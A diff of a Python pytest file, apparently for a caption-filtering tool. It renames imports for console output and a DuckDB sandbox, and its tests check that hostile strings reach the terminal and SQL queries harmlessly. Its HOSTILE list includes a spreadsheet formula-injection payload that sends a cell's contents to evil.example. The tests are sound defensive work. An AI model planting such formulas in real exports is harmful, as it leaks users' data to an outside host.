@@ -10,9 +10,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from capfilt import sandbox, screen
+from capfilt.cli import console
+from capfilt.commands.query import format_table
+from capfilt.core import duckdb_sandbox
 from capfilt.pipelines.readers.base import Row, raw_table
-from capfilt.query import format_table
 
 HOSTILE = [
     "=HYPERLINK('http://evil.example?x='&A1)",
@@ -64,15 +65,15 @@ def test_no_format_lets_it_out(text: str, clean: bool) -> None:
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
 def test_a_terminal_shows_it_in_one_harmless_line(text: str, capsys: pytest.CaptureFixture[str]) -> None:
-    screen.say(text)
-    screen.table(("text",), [(as_read(text)[:100],)])
+    console.say(text)
+    console.table(("text",), [(as_read(text)[:100],)])
     assert not CONTROL.search(capsys.readouterr().out)
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
 def test_sql_sees_a_value(text: str) -> None:
     read = as_read(text)
-    with sandbox.connect({"captions": pa.table({"text": [read]})}) as connection:
+    with duckdb_sandbox.connect({"captions": pa.table({"text": [read]})}) as connection:
         assert connection.execute("SELECT text FROM captions WHERE text = ?", [read]).fetchall() == [(read,)]
         assert connection.execute("SELECT count(*) FROM captions").fetchall() == [(1,)]
 
